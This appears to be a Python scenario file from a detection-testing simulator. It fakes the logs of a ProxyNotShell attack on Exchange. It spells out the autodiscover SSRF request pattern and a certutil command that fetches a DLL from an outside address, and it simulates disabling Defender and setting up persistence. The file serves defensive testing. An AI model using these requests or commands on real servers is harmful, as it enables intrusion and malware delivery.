"""ProxyNotShell (CVE-2022-41040, 41082): an ordinary user's login runs commands on the back end."""

from __future__ import annotations

from exward.model.incident import Verdict
from exward.simulate.acts import intruder, web
from exward.simulate.acts.intruder import Foothold
from exward.simulate.acts.web import Request
from exward.simulate.world import SECOND, World

NAME = "proxynotshell"
TITLE = "ProxyNotShell with a stolen password to commands on the server"
SERVERS = 1

CLIENT = "203.0.113.50"
POOL = Foothold(CLIENT, "", pool="MSExchangePowerShellAppPool")


def play(world: World) -> None:
    """Requests at 02:10, commands until 02:40."""
    host = world.host
    time = world.at("02:10:05")
    mark = "Email=autodiscover/autodiscover.json%3Fa@evil.example"
    for number in range(6):
        at = time + number * 7 * SECOND
        web.send(world, host, at, Request(
            CLIENT, "/autodiscover/autodiscover.json", f"a=admin@evil.example/PowerShell/?{mark}",
            "POST", user="CONTOSO\\b.cruz", agent="Python PSRP Client", auth="Basic",
            back_stem="/PowerShell/", taken_ms=900))  # fmt: skip
        world.add(at, host, "rps-http", {
            "AuthenticatedUser": "CONTOSO\\b.cruz", "ClientIpAddress": CLIENT,
            "UrlStem": "/PowerShell/", "ClientInfo": "Python PSRP Client", "HttpStatus": "200",
            "Action": "Receive"})  # fmt: skip
    world.expect("initial-access", time, "authenticated request reached PowerShell's back end")
    intruder.explore(world, host, world.at("02:12:10"), POOL)
    line = "certutil -urlcache -split -f http://198.51.100.9/t.txt C:\\ProgramData\\t.dll"
    intruder.command(world, host, world.at("02:20:30"), POOL, line)
    intruder.blind_defender(world, host, world.at("02:31:00"), POOL)
    intruder.persist(world, host, world.at("02:38:00"), POOL)
    world.verdicts[host.name] = Verdict.COMPROMISED
